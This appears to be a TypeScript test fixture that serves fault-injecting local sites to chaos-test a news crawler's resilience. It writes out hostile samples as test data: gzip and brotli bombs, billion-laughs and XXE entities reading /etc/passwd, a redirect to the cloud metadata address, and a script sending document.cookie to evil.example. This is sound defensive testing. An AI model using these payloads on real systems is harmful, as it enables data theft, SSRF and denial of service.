/**
 * The fault-injecting fixture web: one node:http site on 127.0.0.1 per fault, each with a couple
 * of good articles beside the fault, so a chaos crawl can check that the fault is survived (the
 * crawl ends, the reason is recorded on that source's run), that nothing half-written or garbage
 * is stored, and that the good articles of every site are stored whole (records lost: 0).
 */
import { brotliCompressSync, gzipSync } from 'node:zlib';
import type http from 'node:http';
import iconv from 'iconv-lite';
import { startFixtureServer, type FixtureServer, type Routes } from './fixture-server.js';

export interface FaultSite {
  /** The fault, also the source id. */
  name: string;
  /** What it injects, for the report. */
  what: string;
  server: FixtureServer;
  /** The source definition (YAML-ready object, without id/name/verified). */
  source: Record<string, unknown>;
  /** Article paths whose documents must be stored (and their expected text). */
  good: { path: string; text: string }[];
  /** Paths that must not become documents. */
  bad: string[];
  /** A reason that must be recorded on the source's run (run_sources.errors), when the fault fails something. */
  reason?: RegExp;
  /** The source as a whole must end failed (it cannot work at all). */
  sourceFails?: boolean;
  /** Extra checks on the store, given a query helper; return a problem or null. */
  check?: (q: Query) => string | null;
}

export type Query = <T = unknown>(sql: string, ...params: unknown[]) => T[];

const words = (n: number) => `Учні та вчителі ліцею № ${n} взяли участь у обласному конкурсі з фізики й математики. `.repeat(12);
export const articleHtml = (title: string, body: string, meta = '<meta charset="utf-8">') =>
  `<!doctype html><html lang="uk"><head>${meta}<title>${title}</title></head><body><nav>Головна · Новини</nav><article><h1>${title}</h1><p>${body}</p><p>${body}</p></article><footer>© Ліцей</footer></body></html>`;

const html = (body: string | Buffer, headers: Record<string, string> = {}) => ({ headers: { 'content-type': 'text/html; charset=utf-8', ...headers }, body });
const rss = (base: string, paths: string[], extra = '') =>
  `<?xml version="1.0" encoding="utf-8"?>${extra}<rss version="2.0"><channel><title>Новини</title>${paths
    .map((p, i) => `<item><title>Стаття ${i}</title><link>${base}${p}</link><pubDate>Mon, 0${1 + (i % 8)} Jan 2024 10:00:00 GMT</pubDate></item>`)
    .join('')}</channel></rss>`;
const urlset = (base: string, paths: string[]) =>
  `<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">${paths.map((p) => `<url><loc>${base}${p}</loc></url>`).join('')}</urlset>`;

const hung = new Set<http.ServerResponse>();
const timers = new Set<NodeJS.Timeout>();
/** Stop everything the faults left hanging. */
export function releaseHung(): void {
  for (const t of timers) clearInterval(t);
  for (const r of hung) r.destroy();
}

const BOMB = Buffer.alloc(40 * 1024 * 1024, 0x20);
const GZIP_BOMB = gzipSync(BOMB);
const BR_BOMB = brotliCompressSync(BOMB);
const STACKED_BOMB = gzipSync(GZIP_BOMB);
const LOL = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('')}]>`;
const XXE = `<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY remote SYSTEM "http://127.0.0.1:9/secret">]>`;
const UK = 'Міністерство освіти і науки повідомляє, що школи й ліцеї Харкова отримали нові підручники. Учні взяли участь у конкурсі.';
const RU = 'В Москве открылась новая школа для одарённых детей, сообщили в департаменте образования. Занятия начнутся в сентябре.';

interface Spec {
  name: string;
  what: string;
  routes: (base: string, other: string) => Routes;
  discover: (base: string) => Record<string, unknown>;
  good?: string[];
  goodText?: Record<string, string>;
  bad?: string[];
  reason?: RegExp;
  sourceFails?: boolean;
  politeness?: Record<string, unknown>;
  extra?: (base: string) => Record<string, unknown>;
  check?: (base: string) => FaultSite['check'];
}

/** Two good articles on every site, beside its fault. */
const GOOD = ['/news/good-1.html', '/news/good-2.html'];
const goodRoutes = (): Routes => Object.fromEntries(GOOD.map((p, i) => [p, html(articleHtml(`Добра стаття ${i + 1}`, words(i + 1)))]));
const seeds = (base: string, ...paths: string[]) => ({ urls: [...paths, ...GOOD].map((p) => base + p) });

const SPECS: Spec[] = [
  { name: 'slow-headers', what: 'no response headers for 60 s', routes: () => ({ '/slow': () => undefined as void }), discover: (b) => seeds(b, '/slow'), bad: ['/slow'], reason: /no response within 2 s|timed out/ },
  {
    name: 'trickle-body',
    what: 'one byte every 300 ms, forever',
    routes: () => ({
      '/trickle': (_q, res) => {
        res.writeHead(200, { 'content-type': 'text/html' });
        const t = setInterval(() => res.write('.'), 300);
        timers.add(t);
        res.on('close', () => clearInterval(t));
      },
    }),
    discover: (b) => seeds(b, '/trickle'),
    bad: ['/trickle'],
    reason: /body not received within 2 s|timed out/,
  },
  {
    name: 'reset',
    what: 'connection reset in the middle of the body',
    routes: () => ({
      '/reset': (req, res) => {
        res.writeHead(200, { 'content-type': 'text/html' });
        res.write('<html><body><p>half a page');
        setTimeout(() => req.socket.destroy(), 30);
      },
    }),
    discover: (b) => seeds(b, '/reset'),
    bad: ['/reset'],
    reason: /cut off|closed before|socket hang up|ECONNRESET|aborted/,
  },
  {
    name: 'truncated',
    what: 'Content-Length 100000, 1000 bytes sent, connection closed',
    routes: () => ({
      '/truncated': (req, res) => {
        res.writeHead(200, { 'content-type': 'text/html', 'content-length': '100000' });
        res.write(`<html><body><p>${'x'.repeat(1000)}`);
        setTimeout(() => req.socket.end(), 30);
      },
    }),
    discover: (b) => seeds(b, '/truncated'),
    bad: ['/truncated'],
    reason: /truncated|cut off|closed before|aborted/,
  },
  {
    name: '5xx-burst',
    what: 'three 503s, then the page',
    routes: () => {
      let n = 0;
      return { '/burst': (_q, res) => (++n <= 3 ? (res.writeHead(503), res.end('busy')) : (res.writeHead(200, { 'content-type': 'text/html' }), res.end(articleHtml('Після збою', words(7))))) };
    },
    discover: (b) => seeds(b, '/burst'),
    good: ['/burst'],
    politeness: { retries: 4 },
  },
  {
    name: 'too-many-requests',
    what: '429 with Retry-After: 1, then the page',
    routes: () => {
      let n = 0;
      return { '/limited': (_q, res) => (++n === 1 ? (res.writeHead(429, { 'retry-after': '1' }), res.end()) : (res.writeHead(200, { 'content-type': 'text/html' }), res.end(articleHtml('Після 429', words(8))))) };
    },
    discover: (b) => seeds(b, '/limited'),
    good: ['/limited'],
    politeness: { retries: 2 },
  },
  { name: 'gzip-bomb', what: '40 MB of spaces in 40 KB of gzip', routes: () => ({ '/bomb': html(GZIP_BOMB, { 'content-encoding': 'gzip' }) }), discover: (b) => seeds(b, '/bomb'), bad: ['/bomb'], reason: /compression bomb/ },
  { name: 'brotli-bomb', what: '40 MB of spaces in brotli', routes: () => ({ '/bomb': html(BR_BOMB, { 'content-encoding': 'br' }) }), discover: (b) => seeds(b, '/bomb'), bad: ['/bomb'], reason: /compression bomb/ },
  { name: 'stacked-encoding-bomb', what: 'Content-Encoding: gzip, gzip around 40 MB', routes: () => ({ '/bomb': html(STACKED_BOMB, { 'content-encoding': 'gzip, gzip' }) }), discover: (b) => seeds(b, '/bomb'), bad: ['/bomb'], reason: /gzip, gzip \(a compression bomb/ },
  {
    name: 'huge-declared',
    what: 'a 100 MB page (Content-Length)',
    routes: () => ({
      '/huge': (_q, res) => {
        res.writeHead(200, { 'content-type': 'text/html', 'content-length': String(100 * 1024 * 1024) });
        res.write('<html>');
        hung.add(res);
      },
    }),
    discover: (b) => seeds(b, '/huge'),
    bad: ['/huge'],
    reason: /Content-Length 104857600 bytes exceeds maxBytes/,
  },
  {
    name: 'huge-streamed',
    what: 'a 100 MB page streamed without Content-Length',
    routes: () => ({
      '/huge': (_q, res) => {
        res.writeHead(200, { 'content-type': 'text/html' });
        const chunk = Buffer.alloc(64 * 1024, 0x61);
        let sent = 0;
        const pump = () => {
          while (sent < 100 * 1024 * 1024 && res.write(chunk)) sent += chunk.length;
          if (sent < 100 * 1024 * 1024) res.once('drain', pump);
          else res.end();
        };
        res.on('close', () => res.removeAllListeners('drain'));
        pump();
      },
    }),
    discover: (b) => seeds(b, '/huge'),
    bad: ['/huge'],
    reason: /more than maxBytes/,
  },
  { name: 'redirect-loop', what: 'A → B → A', routes: () => ({ '/a': { status: 302, headers: { location: '/b' } }, '/b': { status: 302, headers: { location: '/a' } } }), discover: (b) => seeds(b, '/a'), bad: ['/a', '/b'], reason: /too many redirects/ },
  {
    name: 'redirect-chain',
    what: 'a chain of 5 redirects to the article',
    routes: () => ({
      ...Object.fromEntries([0, 1, 2, 3, 4].map((i) => [`/r${i}`, { status: 301, headers: { location: i === 4 ? '/news/landed.html' : `/r${i + 1}` } }])),
      '/news/landed.html': html(articleHtml('Після переадресацій', words(9))),
    }),
    discover: (b) => seeds(b, '/r0'),
    good: ['/news/landed.html'],
  },
  {
    name: 'redirect-chain-too-long',
    what: 'a chain of 15 redirects',
    routes: () => Object.fromEntries(Array.from({ length: 16 }, (_, i) => [`/r${i}`, { status: 302, headers: { location: `/r${i + 1}` } }])),
    discover: (b) => seeds(b, '/r0'),
    bad: ['/r0'],
    reason: /too many redirects/,
  },
  { name: 'off-host-redirect', what: 'a redirect to another site', routes: (_b, other) => ({ '/away': { status: 302, headers: { location: `${other}/news/good-1.html` } } }), discover: (b) => seeds(b, '/away'), bad: ['/away'], reason: /not one of the source's hosts/ },
  {
    name: 'private-redirect',
    what: 'a redirect to the cloud metadata address, spelled IPv4-mapped',
    routes: () => ({ '/meta': { status: 302, headers: { location: 'http://[::ffff:a9fe:a9fe]/latest/meta-data/' } } }),
    discover: (b) => seeds(b, '/meta'),
    bad: ['/meta'],
    reason: /refused/,
  },
  {
    name: 'bad-scheme-links',
    what: 'file:, data: and javascript: links, and a redirect to a 1,350-character data: URL',
    routes: (b) => ({
      '/list': html(`<html><body><a href="file:///etc/passwd">a</a><a href="data:text/html,<script>alert(1)</script>">b</a><a href="javascript:alert(1)">c</a><a href="/data-redirect">d</a>${GOOD.map((p) => `<a href="${p}">g</a>`).join('')}</body></html>`),
      '/data-redirect': { status: 302, headers: { location: `data:text/html;base64,${'QUFB'.repeat(337)}` } },
    }),
    discover: () => ({}),
    extra: (b) => ({ discover: { listings: [{ url: `${b}/list`, articlePattern: '.' }] } }),
    bad: ['/data-redirect'],
    reason: /redirect to data:text\/html;base64,[A-Za-z0-9+/]+… \(\d{4} characters\) refused/,
    check: () => (q) => {
      const long = q<{ n: number }>(`SELECT count(*) AS n FROM run_sources rs, json_each(rs.errors) e WHERE rs.source_id = 'bad-scheme-links' AND length(json_extract(e.value, '$.message')) > 700`)[0].n;
      const schemes = q<{ n: number }>(`SELECT count(*) AS n FROM fetches WHERE source_id = 'bad-scheme-links' AND requested_url NOT LIKE 'http%'`)[0].n;
      return long ? 'an error quotes the whole data: URL' : schemes ? 'a non-http URL was fetched' : null;
    },
  },
  {
    name: 'calendar-trap',
    what: 'an endless chain of empty calendar pages behind a listing (maxPages 1000)',
    routes: (b) => ({
      '/calendar': (req, res) => {
        const day = Number(new URL(req.url!, b).searchParams.get('day') ?? '0');
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end(`<html><body>${day === 0 ? GOOD.map((p) => `<a class="a" href="${p}">g</a>`).join('') : '<p>no events</p>'}<a class="next" href="/calendar?day=${day + 1}">next</a></body></html>`);
      },
    }),
    discover: () => ({}),
    extra: (b) => ({ discover: { listings: [{ url: `${b}/calendar`, articles: 'a.a', next: 'a.next', maxPages: 1000 }] } }),
    check: () => (q) => {
      const n = q<{ n: number }>(`SELECT count(*) AS n FROM fetches WHERE source_id = 'calendar-trap' AND kind = 'listing'`)[0].n;
      return n > 4 ? `${n} calendar pages fetched` : null;
    },
  },
  {
    name: 'sitemap-index-trap',
    what: 'a sitemap index of 500 indexes of indexes, with one real sitemap',
    routes: (b) => ({
      '/sitemap.xml': { headers: { 'content-type': 'application/xml' }, body: `<?xml version="1.0"?><sitemapindex><sitemap><loc>${b}/real.xml</loc><lastmod>2030-01-01</lastmod></sitemap>${Array.from({ length: 500 }, (_, i) => `<sitemap><loc>${b}/idx/${i}.xml</loc></sitemap>`).join('')}</sitemapindex>` },
      '/real.xml': { headers: { 'content-type': 'application/xml' }, body: urlset(b, GOOD) },
      ...Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`/idx/${i}.xml`, { headers: { 'content-type': 'application/xml' }, body: `<?xml version="1.0"?><sitemapindex>${Array.from({ length: 50 }, (_, k) => `<sitemap><loc>${b}/idx/${i}-${k}.xml</loc></sitemap>`).join('')}</sitemapindex>` }])),
    }),
    discover: (b) => ({ sitemaps: [`${b}/sitemap.xml`] }),
    check: () => (q) => {
      const n = q<{ n: number }>(`SELECT count(*) AS n FROM fetches WHERE source_id = 'sitemap-index-trap' AND kind = 'sitemap'`)[0].n;
      return n > 102 ? `${n} sitemaps fetched` : null;
    },
  },
  { name: 'billion-laughs-feed', what: 'entity expansion bomb in a feed', routes: (b) => ({ '/feed.xml': { headers: { 'content-type': 'application/rss+xml' }, body: rss(b, GOOD, LOL).replace('<title>Новини</title>', '<title>&lol9;</title>') } }), discover: (b) => ({ feeds: [`${b}/feed.xml`] }) },
  {
    name: 'billion-laughs-sitemap',
    what: 'entity expansion bomb in a sitemap',
    routes: (b) => ({ '/s.xml': { headers: { 'content-type': 'application/xml' }, body: urlset(b, GOOD).replace('<?xml version="1.0"?>', `<?xml version="1.0"?>${LOL}`).replace('</urlset>', `<url><loc>${b}/&lol9;</loc></url></urlset>`) } }),
    discover: (b) => ({ sitemaps: [`${b}/s.xml`] }),
  },
  {
    name: 'external-entities',
    what: 'SYSTEM entities (file:///etc/passwd, a local URL) in a feed and a sitemap',
    routes: (b) => ({
      '/feed.xml': { headers: { 'content-type': 'application/rss+xml' }, body: rss(b, [GOOD[0]], XXE).replace('<title>Новини</title>', '<title>&xxe;&remote;</title>') },
      '/s.xml': { headers: { 'content-type': 'application/xml' }, body: urlset(b, [GOOD[1]]).replace('<?xml version="1.0"?>', `<?xml version="1.0"?>${XXE}`).replace('</urlset>', `<url><loc>${b}/&xxe;</loc></url></urlset>`) },
    }),
    discover: (b) => ({ feeds: [`${b}/feed.xml`], sitemaps: [`${b}/s.xml`] }),
    check: () => (q) => (q<{ n: number }>(`SELECT count(*) AS n FROM documents WHERE text LIKE '%root:%' OR title LIKE '%root:%'`)[0].n ? '/etc/passwd reached the store' : null),
  },
  {
    name: 'sitemap-bad-entity',
    what: 'a sitemap with one undefined entity among good entries',
    routes: (b) => ({ '/s.xml': { headers: { 'content-type': 'application/xml' }, body: urlset(b, GOOD).replace('</urlset>', `<url><loc>${b}/news/&nbsp;bad.html</loc></url></urlset>`) } }),
    discover: (b) => ({ sitemaps: [`${b}/s.xml`] }),
    reason: /1 entry skipped: undefined entity &nbsp;/,
  },
  {
    name: 'million-url-sitemap',
    what: 'a 1,000,000-URL sitemap (73 MB)',
    routes: (b) => {
      let body: Buffer | null = null;
      return {
        '/big.xml': (_q, res) => {
          body ??= Buffer.from(
            `<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">${GOOD.map((p) => `<url><loc>${b}${p}</loc><lastmod>2030-01-01</lastmod></url>`).join('')}${Array.from({ length: 1_000_000 }, (_, i) => `<url><loc>${b}/old/${i}</loc><lastmod>2001-01-01</lastmod></url>`).join('')}</urlset>`,
          );
          res.writeHead(200, { 'content-type': 'application/xml', 'content-length': String(body.length) });
          res.end(body);
        },
      };
    },
    discover: (b) => ({ sitemaps: [`${b}/big.xml`] }),
    politeness: { maxBytes: 120_000_000, timeout: 30 },
    extra: () => ({ maxArticles: 2 }),
  },
  {
    name: 'deep-html',
    what: '100,000 nested <div>s around the text',
    routes: () => ({ '/deep': html(`<html><body>${'<div>'.repeat(100_000)}<p>${words(3)}</p>${'</div>'.repeat(100_000)}</body></html>`) }),
    discover: (b) => seeds(b, '/deep'),
  },
  {
    name: 'binary-as-html',
    what: 'a PNG and 64 KB of random bytes served as text/html',
    routes: () => {
      let seed = 99;
      const random = Buffer.from(Array.from({ length: 65536 }, () => ((seed = (seed * 1103515245 + 12345) >>> 0) >>> 16) & 0xff));
      return { '/image.html': html(Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(5000, 9)])), '/random.html': html(random, { 'content-type': 'text/html' }) };
    },
    discover: (b) => seeds(b, '/image.html', '/random.html'),
    bad: ['/image.html', '/random.html'],
    reason: /not a text document/,
  },
  {
    name: 'charset-missing',
    what: 'windows-1251 bytes, no charset anywhere',
    routes: () => ({ '/cp1251.html': { headers: { 'content-type': 'text/html' }, body: iconv.encode(articleHtml('Новини освіти', UK, ''), 'windows-1251') } }),
    discover: (b) => seeds(b, '/cp1251.html'),
    good: ['/cp1251.html'],
    goodText: { '/cp1251.html': 'ліцеї Харкова отримали нові підручники' },
  },
  {
    name: 'charset-wrong',
    what: 'header utf-8, bytes and <meta> koi8-r',
    routes: () => ({ '/koi8.html': { headers: { 'content-type': 'text/html; charset=utf-8' }, body: iconv.encode(articleHtml('Новости', RU, '<meta charset="koi8-r">'), 'koi8-r') } }),
    discover: (b) => seeds(b, '/koi8.html'),
    good: ['/koi8.html'],
    goodText: { '/koi8.html': 'открылась новая школа для одарённых детей' },
  },
  {
    name: 'scripts-and-escapes',
    what: 'scripts, handlers, iframes, forms, meta refresh, foreign images and terminal escapes',
    routes: () => ({
      '/hostile.html': html(
        articleHtml(
          'Школа\u001b]0;pwned\u0007 №1',
          `${words(5)}<script>fetch('http://evil.example/'+document.cookie)</script><img src="https://tracker.example/p.gif" onerror="alert(1)"><iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="x"></form>\u001b[2J\u001b]0;owned\u0007 кінець`,
          '<meta charset="utf-8"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
        ),
      ),
    }),
    discover: (b) => seeds(b, '/hostile.html'),
    good: ['/hostile.html'],
    check: () => (q) => {
      const bad = q<{ n: number }>(
        `SELECT count(*) AS n FROM documents WHERE source_id = 'scripts-and-escapes' AND (html LIKE '%<script%' OR html LIKE '%onerror%' OR html LIKE '%iframe%' OR html LIKE '%<form%' OR html LIKE '%tracker.example%' OR html LIKE '%refresh%' OR instr(text, char(27)) > 0 OR instr(title, char(27)) > 0 OR instr(text, char(7)) > 0)`,
      )[0].n;
      return bad ? 'active content or escapes stored' : null;
    },
  },
  { name: 'robots-hangs', what: 'robots.txt never answers', routes: () => ({ '/robots.txt': () => undefined as void }), discover: (b) => seeds(b), bad: GOOD, reason: /robots\.txt unreachable/, sourceFails: true },
  { name: 'feed-5xx', what: 'the only feed answers 500', routes: () => ({ '/feed.xml': { status: 500, body: 'oops' } }), discover: (b) => ({ feeds: [`${b}/feed.xml`] }), bad: GOOD, reason: /nothing discovered: feed .*HTTP 500/, sourceFails: true },
  { name: 'empty-article', what: 'an article that is 200 with an empty body', routes: () => ({ '/empty': { headers: { 'content-type': 'text/html' }, body: '' } }), discover: (b) => seeds(b, '/empty'), bad: ['/empty'] },
  {
    name: 'mapped-ipv6-source',
    what: 'a source at http://[::ffff:127.0.0.1]:PORT without allowPrivateNetwork',
    routes: () => ({}),
    discover: () => ({}),
    extra: (b) => {
      const mapped = b.replace('127.0.0.1', '[::ffff:127.0.0.1]');
      return { home: `${mapped}/`, discover: { urls: GOOD.map((p) => mapped + p) }, allowPrivateNetwork: false };
    },
    bad: GOOD,
    reason: /refused: .*IPv4-mapped 127\.0\.0\.1: loopback/,
    sourceFails: true,
  },
];

/** A good site that nothing is wrong with, for "other sources are unaffected". */
const CONTROL = ['/news/c1.html', '/news/c2.html', '/news/c3.html', '/news/c4.html', '/news/c5.html'];

export async function startChaosSites(): Promise<FaultSite[]> {
  const other = await startFixtureServer({ '/robots.txt': { status: 404 }, ...goodRoutes() });
  const sites: FaultSite[] = [];
  // CHAOS_SKIP=name,name leaves faults out (to see what one costs); the suite itself runs all.
  const skip = new Set((process.env.CHAOS_SKIP ?? '').split(',').filter(Boolean));
  for (const spec of SPECS.filter((x) => !skip.has(x.name))) {
    const server = await startFixtureServer({});
    const base = server.url;
    server.routes = { '/robots.txt': { status: 404 }, ...goodRoutes(), ...spec.routes(base, other.url) };
    const good = [...(spec.bad === GOOD ? [] : GOOD), ...(spec.good ?? [])];
    sites.push({
      name: spec.name,
      what: spec.what,
      server,
      source: {
        home: `${base}/`,
        discover: spec.discover(base),
        politeness: { delay: 0, timeout: 2, retries: 0, maxBytes: 1_000_000, concurrency: 2, ...spec.politeness },
        allowPrivateNetwork: true,
        ...(spec.extra?.(base) ?? {}),
      },
      good: good.map((path) => ({ path, text: spec.goodText?.[path] ?? '' })),
      bad: spec.bad ?? [],
      reason: spec.reason,
      sourceFails: spec.sourceFails,
      check: spec.check?.(base),
    });
  }
  const control = await startFixtureServer({});
  control.routes = { '/robots.txt': { status: 404 }, '/feed.xml': { headers: { 'content-type': 'application/rss+xml' }, body: rss(control.url, CONTROL) }, ...Object.fromEntries(CONTROL.map((p, i) => [p, html(articleHtml(`Контрольна стаття ${i}`, words(20 + i)))])) };
  sites.push({
    name: 'control',
    what: 'a site with nothing wrong (the other sources must not disturb it)',
    server: control,
    source: { home: `${control.url}/`, discover: { feeds: [`${control.url}/feed.xml`] }, politeness: { delay: 0, timeout: 5, retries: 1 }, allowPrivateNetwork: true },
    good: CONTROL.map((path) => ({ path, text: '' })),
    bad: [],
  });
  const closeOther = other.close;
  sites[0].server.close = ((orig) => async () => {
    await orig();
    await closeOther();
  })(sites[0].server.close);
  return sites;
}
